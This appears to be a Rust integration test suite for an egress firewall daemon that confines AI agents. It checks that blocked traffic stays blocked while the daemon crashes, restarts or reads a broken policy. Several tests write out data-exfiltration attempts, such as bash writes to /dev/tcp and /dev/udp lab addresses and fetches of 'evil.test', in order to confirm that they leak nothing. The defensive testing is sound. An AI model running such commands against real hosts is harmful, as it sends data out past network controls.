//! What the kernel does while egressd is not there, or comes back.

use crate::{
    AGENT,
    attack::{leaks, violations},
    fence,
    fence::Fence,
    lab::Lab,
    places::EVIL,
    policies::{COMMON, with},
    program::{DEADLINE, Program, poll, poll_for},
    programs,
    sniffer::mark,
    storm::{self, Storm},
    talker::Talker,
};
use std::{
    fs,
    sync::atomic::{AtomicBool, Ordering},
    time::Duration,
};

#[test]
fn a_killed_daemon_leaves_the_fence_closed() {
    let mut fence = fence(COMMON);
    let mut talker = Talker::start(&fence.agent(AGENT));
    talker.does("fetch https://ok.test/");
    fence.kill();
    stays_closed(&fence, &mut talker);
}

#[test]
fn a_daemon_that_ends_cleanly_leaves_the_fence_closed() {
    let mut fence = fence(COMMON);
    let mut talker = Talker::start(&fence.agent(AGENT));
    talker.does("fetch https://ok.test/");
    fence.shut_down();
    stays_closed(&fence, &mut talker);
}

#[test]
fn a_daemon_that_comes_back_takes_its_agents_over() {
    let mut fence = fence(COMMON);
    let mut talker = Talker::start(&fence.agent(AGENT));
    talker.does("keep db.test 5432");
    talker.does("say before");
    fence.kill();
    talker.does("say meanwhile");
    fence.restart();
    talker.does("say after");
    for trick in ["fetch https://ok.test/", "fetch http://ok.test/", "tcp db.test 5432 again"] {
        talker.does(trick);
    }
    stays_closed(&fence, &mut talker);
}

#[test]
fn direct_flows_of_every_agent_outlive_the_daemon() {
    let mut fence = fence(COMMON);
    let mut talkers = ["left", "right"].map(|name| Talker::start(&fence.agent(name)));
    for talker in &mut talkers {
        talker.does("keep db.test 5432");
        talker.does("say before");
    }
    // Twice, for the second daemon takes over what the first one took over.
    for _ in 0..2 {
        fence.kill();
        for talker in &mut talkers {
            talker.does("say meanwhile");
        }
        let is_back = AtomicBool::new(false);
        std::thread::scope(|scope| {
            for talker in &mut talkers {
                scope.spawn(|| {
                    while !is_back.load(Ordering::Relaxed) {
                        talker.does("say during")
                    }
                });
            }
            fence.restart();
            is_back.store(true, Ordering::Relaxed);
        });
        for talker in &mut talkers {
            talker.does("say after");
            talker.does("tcp db.test 5432 again");
        }
    }
}

#[test]
fn a_rule_that_goes_while_the_daemon_is_dead_goes_for_agents_that_live_on() {
    let mut fence = fence(&with(&[ALT, DB, OK]));
    let mut talker = Talker::start(&fence.agent(AGENT));
    for trick in ["fetch https://ok.test/", "fetch https://alt.test/", "keep db.test 5432", "say before"] {
        talker.does(trick);
    }
    fence.kill();
    fence.write_policy(&with(&[OK]));
    fence.restart();
    talker.does("fetch https://ok.test/");
    let cut = poll_for(Duration::from_secs(1), || (talker.tell("say after") != "ok").then_some(()));
    assert!(cut.is_some(), "the flow lives on without its rule");
    for trick in [
        "fetch https://alt.test/",
        "tcp db.test 5432 again",
        "tcp 10.99.0.12 5432 again",
        "tcp fd99::12 5432 again",
    ] {
        talker.fails(trick);
    }
}

#[test]
fn a_rule_that_stays_while_the_daemon_is_dead_keeps_its_direct_flows() {
    let mut fence = fence(&with(&[ALT, DB, OK]));
    let mut talker = Talker::start(&fence.agent(AGENT));
    talker.does("keep db.test 5432");
    talker.does("fetch https://alt.test/");
    fence.kill();
    // On another line by then.
    fence.write_policy(&with(&[DB, OK]));
    fence.restart();
    for trick in ["say after", "tcp db.test 5432 again", "fetch https://ok.test/"] {
        talker.does(trick);
    }
    talker.fails("fetch https://alt.test/");
}

#[test]
fn a_policy_that_breaks_while_the_daemon_is_dead_keeps_the_fence_closed() {
    let mut fence = fence(COMMON);
    let mut talker = Talker::start(&fence.agent(AGENT));
    talker.does("fetch https://ok.test/");
    fence.kill();
    fence.write_policy("version: 1\nagents: [");
    let outcome = fence.restart_in_vain();
    assert!(
        !outcome.succeeded() && outcome.says("policy.yaml"),
        "it says which file is broken: {outcome:#?}"
    );
    talker.fails("fetch https://ok.test/");
    stays_closed(&fence, &mut talker);
    fence.write_policy(COMMON);
    fence.restart();
    talker.does("fetch https://ok.test/");
    talker.fails("fetch https://evil.test/");
}

#[test]
fn a_flood_finds_no_gap_while_the_daemon_dies_and_comes_back() {
    finds_no_gap(&mut fence(storm::BEFORE), &["--mode", "cgroup"], 100);
}

#[test]
fn a_flood_of_a_sealed_agent_finds_no_gap_while_the_daemon_dies_and_comes_back() {
    finds_no_gap(&mut fence(storm::BEFORE), &["--mode", "sealed"], 50);
}

#[test]
fn a_flood_finds_no_gap_in_the_programs_alone_while_the_daemon_dies_and_comes_back() {
    let folder = tempfile::tempdir().expect("a temporary folder can be made");
    let programs = storm::without_second_deny(programs(), folder.path());
    let mut fence = Fence::start(Lab::new(), programs, storm::BEFORE);
    // The sets are there, for addresses are added to them past nft; no chain of ours is on the way.
    let stands = fence.lab().run("nft list ruleset");
    assert!(!stands.says("type filter hook"), "nothing but the programs stands: {stands:#?}");
    finds_no_gap(&mut fence, &["--mode", "cgroup"], 50);
}

#[test]
fn agents_that_start_and_end_while_the_daemon_dies_leave_nothing_behind() {
    let mut fence = fence(COMMON);
    let (mark, position) = (mark(), fence.lab().sniffer().position());
    let trick = format!("echo {mark} > /dev/udp/10.99.0.66/9000; echo {mark} > /dev/tcp/fd99::66/9000");
    for number in 0..10 {
        let mode = MODES[number % 2];
        let agent =
            Program::start(fence.agent(AGENT).with(&["--mode", mode]).command(&["bash", "-c", &trick]));
        // From before it asks for its cgroup to after its end.
        std::thread::sleep(Duration::from_millis(30) * u32::try_from(number).expect("it is small"));
        fence.kill();
        let outcome = agent.finish();
        assert!(!outcome.succeeded(), "it can only fail: {outcome:#?}");
        fence.restart();
    }
    fence.lab().settle();
    let seen = fence.lab().sniffer().since(position);
    assert!(!seen.iter().any(|frame| frame.carries(mark.as_bytes())), "an agent found a gap");
    // One that was killed before its first process is an agent for a minute more.
    let is_all_theirs = || Holdings::of(&fence).are_of_agents().then_some(());
    let after = poll_for(DEADLINE, is_all_theirs);
    assert!(after.is_some(), "{:#?}\n{}", Holdings::of(&fence), fence.daemon().stderr());
}

#[test]
fn a_cgroup_that_a_daemon_did_not_live_to_remember_goes_unless_something_lives_there() {
    let mut fence = fence(COMMON);
    fence.kill();
    let [empty, inhabited] = ["agent.900", "agent.901"].map(|name| fence.cgroup().join(name));
    for folder in [&empty.join("below"), &inhabited] {
        fs::create_dir_all(folder).expect("cgroups can be made");
    }
    let enter = format!("echo $$ > {}/cgroup.procs && echo in", inhabited.display());
    let inhabitant = fence.lab().command(&["bash", "-c", &format!("{enter} && exec sleep 60")]);
    let inhabitant = Program::start(inhabitant);
    poll("a process in the cgroup", || inhabitant.stdout().contains("in").then_some(()));
    fence.restart();
    assert!(!empty.exists(), "nothing needs it");
    assert!(inhabited.exists(), "something lives there");
    let mark = mark();
    let script = format!("{enter}; echo {mark} > /dev/udp/10.99.0.66/9000");
    let (denied, frames) = violations(fence.lab(), &mark, || fence.lab().run(&script));
    assert!(denied.says("in\n") && denied.says("not permitted"), "it is nobody's agent: {denied:#?}");
    assert!(frames.is_empty(), "it is nobody's agent, and leaked: {frames:#?}");
    leaks(fence.lab(), EVIL, &["echo {mark} > /dev/udp/{v4}/9000"]);
}

#[test]
fn new_agents_can_be_started_after_a_crash() {
    let mut fence = fence(COMMON);
    let _living = Talker::start(&fence.agent("living"));
    fence.kill();
    fence.restart();
    crate::attack::tells_apart(&fence.agent(AGENT), &["curl -sSf -m 5 https://{host}/"]);
}

/// `kills` daemons die, half of them within their first moments. `scripts/bench kills` has a
/// thousand die.
fn finds_no_gap(fence: &mut Fence, flags: &[&str], kills: usize) {
    let storm = Storm::rage(fence, flags, kills);
    assert!(storm.violations.is_empty(), "the flood found a gap: {storm:#?}");
    assert!(
        (1..kills).contains(&storm.killed_early),
        "daemons die before they are ready, and after: {storm:#?}"
    );
    let kinds = storm.kinds.as_object().expect("kinds have names");
    assert!(kinds.values().all(|kind| kind["attempts"].as_u64() > Some(kills as u64)), "{storm:#?}");
    let flows = storm.flows.as_object().expect("flows have names");
    assert!(flows.values().all(|flow| flow["asked"].as_u64() > Some(kills as u64)), "{storm:#?}");
    assert!(flows.values().all(|flow| flow["lost"] == 0), "granted flows go on: {storm:#?}");
    let mut talker = Talker::start(&fence.agent(AGENT).with(flags));
    talker.does("tcp db.test 5432 again");
    talker.fails("udp_sendto 10.99.0.11 9000 again");
    let unfenced = [
        "echo {mark} > /dev/udp/{v4}/9000",
        "echo {mark} > /dev/udp/{v6}/9000",
        "{trick} udp_mapped {v4} 9000 {mark}",
        "{trick} tcp_send_only {v4} 9000 {mark}",
        "{trick} fastopen {v4} 9000 {mark}",
    ];
    leaks(fence.lab(), EVIL, &unfenced);
}

/// Everything that was denied is denied still. What is allowed may fail, but not stray.
pub fn stays_closed(fence: &Fence, talker: &mut Talker) {
    let tricks = [
        "tcp_send_only 10.99.0.66 9000",
        "tcp_send_only fd99::66 443",
        "udp_sendto 10.99.0.66 9000",
        "udp_connected fd99::66 9000",
        "udp_mapped 10.99.0.66 9000",
        "udp_sendto 10.99.0.66 53",
        "udp_sendto 198.51.100.53 53",
        "ping 10.99.0.66",
        "packet 10.99.0.66",
        "fetch https://evil.test/",
    ];
    for trick in tricks {
        let mark = mark();
        let (answer, frames) = violations(fence.lab(), &mark, || talker.tell(&format!("{trick} {mark}")));
        assert!(frames.is_empty(), "`{trick}` leaked, its answer was {answer}: {frames:#?}");
    }
    let unfenced = tricks.map(|trick| format!("{{trick}} {trick} {{mark}}"));
    leaks(fence.lab(), EVIL, &unfenced.each_ref().map(String::as_str));
}

/// How many things of each kind there are for agents.
#[derive(Debug)]
struct Holdings {
    agents: usize,
    sealed: usize,
    remembered: usize,
    cgroups: usize,
    cells: usize,
    links: usize,
}

impl Holdings {
    fn of(fence: &Fence) -> Self {
        let agents = fence.ctl(&["agents", "-o", "json"]).stdout;
        let count = |script: &str| fence.lab().run(script).stdout.lines().count();
        let run = fence.socket();
        let run = run.parent().expect("the socket is in a folder").display();
        Self {
            agents: agents.lines().count(),
            sealed: agents.lines().filter(|agent| agent.contains(r#""boundary":"sealed""#)).count(),
            remembered: count(&format!("find {run}/agents -name '*.json'")),
            cgroups: fence.agent_cgroups().len(),
            cells: count(&format!("find {run}/cells -mindepth 1 -maxdepth 1")),
            links: count("ip -o link"),
        }
    }

    /// Whether there is nothing but the host's own two links, what agents have, and a cell that is
    /// ready for the next.
    fn are_of_agents(&self) -> bool {
        self.remembered == self.agents
            && self.cgroups == self.agents
            && (self.sealed..=self.sealed + 1).contains(&self.cells)
            && self.links == 2 + self.cells
    }
}

const MODES: [&str; 2] = ["sealed", "cgroup"];

const OK: &str = "{host: ok.test, private: true}";
const ALT: &str = "{host: alt.test, private: true}";
const DB: &str = "{host: db.test, protocol: tcp, ports: [5432], private: true}";
